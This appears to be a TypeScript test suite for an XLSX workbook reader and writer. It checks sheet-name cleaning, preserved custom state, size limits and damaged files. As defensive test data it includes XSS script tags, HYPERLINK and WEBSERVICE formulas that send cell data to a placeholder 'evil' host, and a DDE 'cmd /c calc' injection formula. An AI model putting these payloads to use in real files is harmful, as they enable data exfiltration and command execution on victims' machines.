import type { SheetImage, WorkbookImage } from '../../src/core/workbook/image';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { FileProblem } from '../../src/hosts/file-problem';
import type { KeptState } from '../../src/core/change/kept-state';
import { readImage, readXlsx, writeImage } from '../../src/hosts/xlsx';
import { foreignWorkbook } from './foreign-workbook';
import { imageOf } from './plain-image';

const formula = (text: string): NonNullable<SheetImage['rows'][number][number]> => ({
  value: 1,
  formula: text,
  fills: null,
  look: null,
});

async function refusal(bytes: Uint8Array): Promise<string> {
  return readImage(bytes, 'x.xlsx').then(
    () => 'accepted',
    (error: unknown) => (error instanceof FileProblem ? error.code : String(error)),
  );
}

test('names of sheets that Excel does not allow are changed as little as can be', async () => {
  const names = [
    '<script>alert(1)</script>',
    '<script>alert(1)_script>',
    "'引'",
    '',
    'History',
    '长'.repeat(40),
    '长'.repeat(41),
    'a:b?[c]\u0001',
  ];
  const written = await writeImage(imageOf(...names.map((name) => ({ name }))), null, 'formulas');
  const read = await readImage(written, 'x.xlsx');
  expect(read.image.sheets.map(({ name }) => name)).toEqual([
    '<script>alert(1)<_script>',
    '<script>alert(1)_script>',
    '_引_',
    '_',
    'History_',
    '长'.repeat(31),
    `${'长'.repeat(30)}2`,
    'a_b__c__',
  ]);
});

test('tags, areas to print and what is kept follow a sheet whose name is changed', async () => {
  const print = {
    orientation: 'portrait' as const,
    area: { top: 1, left: 1, bottom: 2, right: 2 },
    repeatRows: null,
    fit: null,
    footer: null,
  };
  const kept: KeptState = { generated: { 'a/b': 'income' }, layouts: {}, memory: null };
  const read = await readImage(await writeImage(imageOf({ name: 'a/b', print }), kept, 'formulas'), 'x.xlsx');
  expect(read.kept?.generated).toEqual({ a_b: 'income' });
  expect(read.image.sheets[0]!.print).toEqual(print);
});

test('formulas that reach out are text of formulas, and no link of the file', async () => {
  const formulas = [
    'HYPERLINK("http://evil/?"&A1,"点")',
    'WEBSERVICE("http://evil/")',
    `IF(A1="<x>""&'y'","BUDGET.SHARE(","'")`,
    "cmd|'/c calc'!A1",
  ];
  const bytes = await writeImage(imageOf({ rows: [formulas.map(formula)] }), null, 'formulas');
  const read = await readImage(bytes, 'x.xlsx');
  expect(read.image.sheets[0]!.rows[0]!.map((cell) => cell?.formula)).toEqual(formulas);
  expect(read.dropped).toEqual([]);
  expect(Object.keys(unzipSync(bytes)).filter((name) => name.includes('externalLink'))).toEqual([]);
});

test('values alone: no formula in any part, and no name that is one', async () => {
  const image: WorkbookImage = {
    ...imageOf({ rows: [[formula('A2'), { ...formula('1/0'), value: { error: '#DIV/0!' } }]] }),
    names: [
      { name: 'place', refersTo: "'S'!$A$1" },
      { name: 'sum', refersTo: "SUM('S'!$A$1)" },
    ],
  };
  const parts = unzipSync(await writeImage(image, null, 'values'));
  expect(strFromU8(parts['xl/worksheets/sheet1.xml']!)).not.toMatch(/<f[ >/]/);
  const workbook = strFromU8(parts['xl/workbook.xml']!);
  expect(workbook).toContain('<definedName name="place">');
  expect(workbook).not.toContain('SUM(');
});

test('not all sheets are hidden; the first that is not is the one that opens', async () => {
  const all = await readImage(await writeImage(imageOf({ hidden: true }), null, 'formulas'), 'x.xlsx');
  expect(all.image.sheets[0]!.hidden).toBe(false);
  const parts = unzipSync(await writeImage(imageOf({ hidden: true }, { name: 'T' }), null, 'formulas'));
  expect(strFromU8(parts['xl/workbook.xml']!)).toContain('activeTab="1"');
});

describe('what is kept', () => {
  const kept: KeptState = {
    generated: { S: 'income' },
    layouts: { income: { firstRow: 7, keyColumns: [1], keys: ['201'] } },
    memory: '{"a":1}',
  };
  const changed = async (change: (parts: Record<string, Uint8Array>) => void): Promise<KeptState | null> => {
    const parts = unzipSync(await writeImage(imageOf({}), kept, 'formulas'));
    change(parts);
    return (await readImage(zipSync(parts), 'x.xlsx')).kept;
  };
  const edit = (part: string, by: (xml: string) => string) => (parts: Record<string, Uint8Array>) => {
    const before = strFromU8(parts[part]!);
    parts[part] = strToU8(by(before));
    expect(strFromU8(parts[part])).not.toBe(before);
  };

  test('is declared as Office wants it, and tags are hidden names', async () => {
    const parts = unzipSync(await writeImage(imageOf({}), kept, 'formulas'));
    const text = (name: string): string => strFromU8(parts[name]!);
    expect(text('xl/workbook.xml')).toContain(
      `<definedName name="BudgetDisclosure.income" hidden="1">'S'!$A$1</definedName>`,
    );
    expect(text('customXml/item1.xml')).toContain('<kept xmlns="urn:budget-disclosure:kept:1">');
    expect(text('xl/_rels/workbook.xml.rels')).toContain('Target="../customXml/item1.xml"');
    expect(text('customXml/_rels/item1.xml.rels')).toContain('Target="itemProps1.xml"');
    expect(text('[Content_Types].xml')).toContain('PartName="/customXml/itemProps1.xml"');
    expect((await readImage(await writeImage(imageOf({}), null, 'formulas'), 'x.xlsx')).kept).toBeNull();
  });

  test('survives that another program moves the part or drops the names', async () => {
    expect(
      await changed((parts) => {
        parts['customXml/item12.xml'] = parts['customXml/item1.xml']!;
        parts['customXml/item1.xml'] = strToU8('<b:Sources xmlns:b="x"/>');
      }),
    ).toEqual(kept);
    expect(
      await changed(edit('xl/workbook.xml', (xml) => xml.replace(/<definedNames>.*<\/definedNames>/, ''))),
    ).toEqual(kept);
  });

  test('follows a sheet that was renamed elsewhere, and forgets one that is gone', async () => {
    expect(
      await changed(
        edit('xl/workbook.xml', (xml) => xml.replace('name="S"', 'name="收入"').replace("'S'!", '收入!')),
      ),
    ).toEqual({ ...kept, generated: { 收入: 'income' } });
    expect(
      await changed(
        edit('xl/workbook.xml', (xml) => xml.replace('name="S"', 'name="T"').replace("'S'!$A$1", '#REF!')),
      ),
    ).toEqual({ ...kept, generated: {} });
  });

  test.each([
    ['no JSON', '<kept xmlns="urn:budget-disclosure:kept:1">{"generated":</kept>'],
    [
      'another shape',
      '<kept xmlns="urn:budget-disclosure:kept:1">{"generated":[],"layouts":{},"memory":7}</kept>',
    ],
    [
      'layouts that are none',
      '<kept xmlns="urn:budget-disclosure:kept:1">{"generated":{},"layouts":{"a":{}},"memory":null}</kept>',
    ],
    ['another version', '<kept xmlns="urn:budget-disclosure:kept:2">{}</kept>'],
    ['no XML', '\u0000<kept'],
    ['nothing', ''],
  ])('is as good as none where the part has %s; the tags still tell', async (_, xml) => {
    expect(
      await changed((parts) => {
        parts['customXml/item1.xml'] = strToU8(xml);
      }),
    ).toEqual({ generated: { S: 'income' }, layouts: {}, memory: null });
  });
});

describe('too much', () => {
  const sheet = (rows: string, tail = '', behind = ''): Uint8Array =>
    foreignWorkbook({ sheets: [{ name: 'S', rows, tail }], behind });

  test('cells at the far ends of many rows are refused, one at the far corner is not', async () => {
    expect(await refusal(sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))).toBe('accepted');
    const rows = Array.from(
      { length: 1000 },
      (_, at) => `<row r="${String(at + 1)}"><c r="XFD${String(at + 1)}"><v>1</v></c></row>`,
    );
    expect(await refusal(sheet(rows.join('')))).toBe('too-large');
  });

  test('names, merges and choices that cover whole sheets cost nothing', async () => {
    const bytes = sheet(
      '<row r="1"><c r="A1"><v>1</v></c></row>',
      '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><dataValidations><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a,b"</formula1></dataValidation></dataValidations>',
      '<definedNames><definedName name="all">S!$A$1:$XFD$1048576</definedName></definedNames>',
    );
    const { image, dropped } = await readImage(bytes, 'x.xlsx');
    expect(dropped).toEqual(['merges']);
    const again = await readImage(await writeImage(image, null, 'formulas'), 'x.xlsx');
    expect(again.image.names).toEqual([{ name: 'all', refersTo: 'S!$A$1:$XFD$1048576' }]);
    expect(again.image.sheets[0]!.choices).toEqual(image.sheets[0]!.choices);
  });
});

test.each([
  ['breaks off', '<worksheet><sheetData><row r="1"><c r="A1"><v>1</v>'],
  ['is no XML', '\u0000\u0001'],
  ['is empty', ''],
  [
    'does not close its cells',
    `<worksheet><sheetData>${'<c r="A1">'.repeat(50_000)}</sheetData></worksheet>`,
  ],
])(
  'a sheet that %s makes the file a damaged one',
  async (_, xml) => {
    const parts = unzipSync(foreignWorkbook({ sheets: [{ name: 'S', rows: '' }] }));
    parts['xl/worksheets/page-0.xml'] = strToU8(xml);
    expect(await refusal(zipSync(parts))).toBe('damaged-workbook');
  },
  60_000,
);

test('a sheet without cells is empty', async () => {
  const parts = unzipSync(foreignWorkbook({ sheets: [{ name: 'S', rows: '' }] }));
  parts['xl/worksheets/page-0.xml'] = strToU8('<worksheet><sheetData/></worksheet>');
  expect((await readImage(zipSync(parts), 'x.xlsx')).image.sheets[0]!.rows).toEqual([]);
});

test('a written file is one that the reader of lists takes too', async () => {
  const image = imageOf({
    rows: [[formula('A2'), { ...formula(''), formula: null, value: '功能科目编码' }]],
  });
  const { sheets } = await readXlsx(await writeImage(image, null, 'formulas'), 'x.xlsx');
  expect(sheets[0]!.rows[0]).toEqual([{ value: 1, formula: 'A2' }, { value: '功能科目编码' }]);
});
